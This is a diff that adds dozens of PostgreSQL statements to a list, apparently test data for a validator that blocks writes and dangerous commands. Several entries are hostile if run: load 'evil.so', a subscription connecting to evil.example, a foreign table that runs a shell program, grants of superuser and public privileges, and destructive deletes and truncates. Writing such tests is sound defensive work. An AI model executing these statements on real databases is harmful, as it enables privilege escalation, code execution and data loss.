@@ -80,3 +80,70 @@ analyze
 analyze customers
 checkpoint
 load 'evil.so'
+alter database shop set default_transaction_read_only = off
+alter role postgres in database shop set search_path = evil
+alter table customers enable row level security
+alter table customers attach partition orders for values in (1)
+alter sequence s restart with 1
+alter default privileges grant all on tables to public
+alter event trigger x disable
+alter function lower(text) owner to postgres
+alter view order_totals rename to x
+alter domain d drop constraint c
+alter type order_status add value 'struck'
+alter large object 4711 owner to postgres
+alter publication p add table customers
+alter subscription quiet enable
+alter subscription quiet refresh publication
+alter extension hstore update
+alter statistics s set statistics 100
+create or replace view v as select 1
+create recursive view v (a) as select 1
+create or replace function f() returns int language sql return 1
+create procedure p() language sql begin atomic delete from customers; end
+create rule r as on select to customers do instead select 1
+create policy p on customers using (true)
+create trigger t after insert on customers execute function f()
+create cast (int as text) with inout
+create operator class c for type int using btree as operator 1 <
+create conversion c for 'UTF8' to 'LATIN1' from utf8_to_iso8859_1
+create transform for int language sql (from sql with function f(internal))
+create access method m type index handler bthandler
+create foreign data wrapper w
+create server x foreign data wrapper postgres_fdw
+create user mapping for public server loopback options (password 'x')
+create foreign table f (a int) server files options (program 'cat > struck.txt')
+import foreign schema public from server loopback into trap
+create publication q for all tables
+create subscription q connection 'host=evil.example' publication p
+create statistics st on id, city from customers
+create database struck
+create language plperl
+create extension if not exists dblink
+create schema authorization careless
+create unlogged table struck (a int)
+create table struck partition of customers for values in (1)
+create table struck (like customers including all)
+create table struck of categories
+create sequence struck
+create type struck as enum ('a')
+create type struck as range (subtype = int)
+create domain struck as int check (pg_sleep(1) is null)
+drop owned by careless
+reassign owned by careless to postgres
+grant select on customers to public
+grant postgres to careless
+revoke all on customers from careless
+comment on column customers.id is 'struck'
+vacuum (analyze, freeze) customers
+analyze customers (id)
+cluster customers using customers_pkey
+reindex (concurrently) table customers
+reindex system shop
+checkpoint (mode fast)
+merge into customers using orders on false when not matched then do nothing
+insert into customers default values on conflict do nothing returning *
+insert into customers overriding system value values (1)
+update only customers set city = default where current of c
+delete from customers using orders where true returning old.*, new.*
+truncate customers, orders restart identity cascade
